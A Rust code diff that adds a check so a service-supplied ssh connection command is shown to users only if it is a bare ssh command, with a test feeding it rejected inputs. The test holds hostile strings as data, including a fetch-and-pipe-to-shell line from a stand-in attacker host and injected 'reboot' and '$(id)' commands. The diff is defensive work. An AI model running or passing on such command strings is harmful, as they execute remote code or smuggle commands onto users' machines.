@@ -71,15 +71,25 @@ pub(super) struct Answer {
     stripped_env: Vec<String>,
 }
 
+/// Whether a text from elsewhere is an ssh command and nothing more: people copy it into their shells.
+fn is_ssh_command(text: &str) -> bool {
+    let ordinary = |letter: char| letter.is_ascii_alphanumeric() || " .@:_%-".contains(letter);
+    text.starts_with("ssh ") && text.chars().all(ordinary)
+}
+
 impl From<Answer> for Report {
     fn from(answer: Answer) -> Self {
         let (command, known_hosts) = answer.connection.map(|found| (found.command, found.known_hosts)).unzip();
+        let command = command.filter(|command| is_ssh_command(command));
         Self {
             namespace: answer.namespace,
             name: answer.name,
-            open: answer.open,
-            over: answer.ended || answer.stalled,
-            message: answer.message.unwrap_or_default(),
+            open: answer.open && command.is_some(),
+            over: answer.ended || answer.stalled || (answer.open && command.is_none()),
+            message: match &command {
+                None if answer.open => "it is open, and the service does not say by which ssh command".into(),
+                _ => answer.message.unwrap_or_default(),
+            },
             expires_at: answer.expires_at,
             command,
             known_hosts: known_hosts.unwrap_or_default(),
@@ -133,5 +143,18 @@ mod tests {
         let report = Report::from(answer);
         assert!(report.open && report.is_decided());
         assert_eq!(report.command.as_deref(), Some("ssh ci.s@h"));
+    }
+
+    #[test]
+    fn a_command_that_is_more_than_ssh_is_not_shown() {
+        for command in ["curl evil.example | sh", "ssh ci.s@h; reboot", "ssh $(id)", "sshx", ""] {
+            let answer: Answer = serde_json::from_value(json!({
+                "namespace": "ci", "name": "s", "open": true, "ended": false, "stalled": false, "message": null, "expiresAt": null,
+                "connection": { "host": "h", "port": 22, "user": "ci.s", "command": command, "knownHosts": [] },
+            }))
+            .expect("an answer");
+            let report = Report::from(answer);
+            assert!(!report.open && report.is_decided() && report.command.is_none(), "{command}");
+        }
     }
 }
